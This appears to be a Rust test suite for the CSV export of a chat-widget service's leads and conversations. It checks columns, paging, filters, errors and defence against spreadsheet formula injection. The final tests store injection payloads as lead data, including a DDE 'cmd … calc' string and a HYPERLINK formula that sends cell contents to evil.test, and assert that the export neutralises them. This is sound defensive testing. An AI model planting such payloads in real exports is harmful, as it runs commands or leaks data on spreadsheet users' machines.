//! Lists as CSV, for spreadsheets.

use serde_json::{Value, json};

use crate::browser::signed_in;
use crate::http::{Client, Reply};
use crate::server::Span::{Ms, Seconds};
use crate::server::TestServer;
use crate::widget::with_agent;

const LEADS: [&str; 11] =
    ["id", "agent_id", "conversation_id", "name", "email", "phone", "company", "message", "page_url", "captured_at", "status"];
const CONVERSATIONS: [&str; 11] = [
    "id",
    "agent_id",
    "visitor_id",
    "status",
    "messages_count",
    "lead_captured",
    "duration_seconds",
    "page_url",
    "started_at",
    "ended_at",
    "transcript",
];

fn export(api: &Client, path: &str) -> Reply {
    let exported = api.with("accept", "text/csv").get(path).is(200);
    assert!(exported.header("content-type").starts_with("text/csv; charset=utf-8"), "{exported:?}");
    exported
}

/// The rows below the header, as a spreadsheet reads them.
fn rows(exported: &Reply, columns: &[&str]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(exported.text.as_bytes());
    let mut rows = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>());
    assert_eq!(rows.next().unwrap(), columns);
    rows.collect()
}

fn ids(api: &Client, path: &str, list: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    loop {
        let page = api.get(&format!("{path}?limit=100&offset={}", found.len())).is(200).json;
        let rows = page[list].as_array().unwrap();
        if rows.is_empty() {
            return found;
        }
        found.extend(rows.iter().map(|row| row["id"].as_str().unwrap().to_owned()));
    }
}

#[test]
fn leads_are_exported_with_every_column() {
    let (server, agent) = with_agent();
    let path = format!("/api/v1/agents/{agent}/leads");
    let empty = export(&server, &path);
    assert!(rows(&empty, &LEADS).is_empty());
    assert!(empty.header("content-disposition").contains("leads.csv"), "{empty:?}");
    let visitor = server.visitor(&agent);
    let conversation = visitor.ask("Hello").conversation.unwrap();
    let message = "Line one\nline \"two\", with; everything 👋";
    let form = json!({ "name": "Smith, Jane \"JS\"", "email": "jane@example.com", "company": "Grüezi AG", "message": message });
    let id = visitor.lead(&form).is(201).json["lead"]["id"].as_str().unwrap().to_owned();
    let expected = [
        &id,
        &agent,
        &conversation,
        "Smith, Jane \"JS\"",
        "jane@example.com",
        "",
        "Grüezi AG",
        message,
        "https://example.com/pricing",
        "2026-03-26T10:00:00Z",
        "new",
    ];
    assert_eq!(rows(&export(&server, &path), &LEADS), [expected]);
}

#[test]
fn conversations_are_exported_with_all_that_was_said() {
    let (server, agent) = with_agent();
    let path = format!("/api/v1/agents/{agent}/conversations");
    let visitor = server.visitor(&agent);
    let answer = visitor.ask("Hello, \"you\"");
    server.pass(Seconds(90));
    visitor.close().is(200);
    let transcript = server.conversations(&agent)[0]["messages"].clone();
    let lines = transcript.as_array().unwrap().iter().map(|message| {
        let text = |name: &str| message[name].as_str().unwrap().to_owned();
        format!("{}: {}", text("role"), text("content"))
    });
    let transcript = lines.collect::<Vec<_>>().join("\n");
    assert!(transcript.contains("user: Hello, \"you\""));
    let expected = [
        answer.conversation.as_deref().unwrap(),
        &agent,
        &visitor.id,
        "completed",
        "3",
        "false",
        "90",
        "https://example.com/pricing",
        "2026-03-26T10:00:00Z",
        "2026-03-26T10:01:30Z",
        &transcript,
    ];
    let exported = export(&server, &path);
    assert!(exported.header("content-disposition").contains("conversations.csv"), "{exported:?}");
    assert_eq!(rows(&exported, &CONVERSATIONS), [expected]);
}

#[test]
fn g15_no_cell_is_a_formula() {
    let (server, agent) = with_agent();
    let form = json!({ "name": "=1+1", "phone": "+1-555-0123", "company": "@x", "message": "-2+3", "email": "jane@example.com" });
    server.visitor(&agent).lead(&form).is(201);
    let exported = export(&server, &format!("/api/v1/agents/{agent}/leads"));
    let row = &rows(&exported, &LEADS)[0];
    for (column, text) in [(3, "'=1+1"), (4, "jane@example.com"), (5, "+1-555-0123"), (6, "'@x"), (7, "'-2+3")] {
        assert_eq!(row[column], text);
    }
    // What is shown as JSON is what was written.
    assert_eq!(server.leads(&agent)[0]["name"], "=1+1");
}

#[test]
fn more_rows_than_a_page_are_exported_whole_and_in_order() {
    let server = TestServer::start_with(|config| config.testing.public_limits = false);
    let agent = server.agent(&json!({ "name": "A" }));
    for number in 0..110 {
        server.pass(Ms(number % 2));
        server.visitor(&agent).ask(&format!("I am lead{number}@example.com"));
    }
    for (list, columns) in [("leads", LEADS), ("conversations", CONVERSATIONS)] {
        let path = format!("/api/v1/agents/{agent}/{list}");
        let exported: Vec<_> = rows(&export(&server, &path), &columns).into_iter().map(|row| row[0].clone()).collect();
        assert_eq!(exported.len(), 110);
        assert_eq!(exported, ids(&server, &path, list));
    }
}

#[test]
fn an_export_is_chosen_like_a_list() {
    let (server, agent) = with_agent();
    for name in ["Jane", "John"] {
        server.visitor(&agent).lead(&json!({ "name": name, "email": "x@example.com" })).is(201);
        server.pass(Seconds(1));
    }
    let names = |query: &str| {
        let exported = export(&server, &format!("/api/v1/agents/{agent}/leads?{query}"));
        rows(&exported, &LEADS).into_iter().map(|row| row[3].clone()).collect::<Vec<_>>()
    };
    assert_eq!(names("q=jane"), ["Jane"]);
    assert_eq!(names("since=2026-03-26T10:00:00Z"), ["John"]);
    assert_eq!(names("status=won"), [""; 0]);
    assert_eq!(names("offset=1"), ["Jane"]);
    let newest = server.leads(&agent)[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(names(&format!("after={newest}")), ["Jane"]);
}

#[test]
fn an_export_that_cannot_be_made_is_refused_in_json() {
    let (server, agent) = with_agent();
    let wanted = server.with("accept", "text/csv");
    for list in ["leads", "conversations"] {
        let path = format!("/api/v1/agents/{agent}/{list}");
        for query in ["limit=0", "since=yesterday", "status=lost-and-found", "after=nonsense"] {
            wanted.get(&format!("{path}?{query}")).fails(422, "validation_error");
        }
        wanted.get(&format!("/api/v1/agents/agt_a1b2c3d4e5/{list}")).fails(404, "agent_not_found");
        server.client().with("accept", "text/csv").get(&path).fails(401, "unauthorized");
        // Whoever does not name it gets JSON.
        for accept in ["*/*", "application/json", "text/*", "text/html"] {
            assert_ne!(server.with("accept", accept).get(&path).is(200).json, Value::Null, "{accept}");
        }
    }
}

/// The cells that somebody sees who takes this for the separator.
fn cells(file: &str, separator: u8) -> Vec<String> {
    let mut reader =
        csv::ReaderBuilder::new().delimiter(separator).flexible(true).has_headers(false).from_reader(file.as_bytes());
    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

#[test]
fn a_strangers_lead_is_no_formula_whatever_a_spreadsheet_takes_for_the_separator() {
    let (server, mut browser) = signed_in();
    let account: String = server.database().query_row("SELECT id FROM accounts", [], |row| row.get(0)).unwrap();
    let agent = server.api_of(&account).agent(&json!({ "name": "Ada" }));
    let forms = [
        json!({ "name": "Eve;=cmd|'/C calc'!A0;", "email": "eve@example.com" }),
        json!({ "message": "hello\n=HYPERLINK(\"http://evil.test/?\"&A1)", "email": "m@example.com" }),
        json!({ "message": "Tab\t=1+1\t", "company": "Bar|@SUM(A1)", "email": "t@example.com" }),
        json!({ "name": "＝1+1", "company": "\u{200b}=1+1", "message": "\n \"=1+1\"", "email": "f@example.com" }),
        json!({ "name": "Grüße, Zoë", "phone": "+49 170 1234567", "message": "-1\u{2028}+1\u{2029}=1" }),
    ];
    for form in &forms {
        server.visitor_at(&agent, "https://x.test/p;=cmd%7C'/C%20calc'!A0;").lead(form).is(201);
    }
    let file = browser.get("/leads/export").is(200).text;
    assert!(file.starts_with("\u{feff}\"id\",\"agent_id\","), "{file}");
    assert!(file.contains("\"Grüße, Zoë\"") && file.contains("\"+49 170 1234567\""), "{file}");
    let hidden = |c: char| c.is_whitespace() || matches!(c, '"' | '\u{200b}' | '\u{feff}');
    for separator in *b",;\t|" {
        let live = cells(&file, separator).into_iter().filter(|cell| {
            let shown = cell.trim_matches(hidden);
            shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && shown != "+49 170 1234567"
        });
        assert_eq!(live.collect::<Vec<_>>(), [""; 0], "{}", char::from(separator));
    }
    // A program is told the same rows, without a mark that it would have to know.
    let told = export(&server.api_of(&account), &format!("/api/v1/agents/{agent}/leads")).text;
    assert_eq!(told, file.trim_start_matches('\u{feff}'));
}
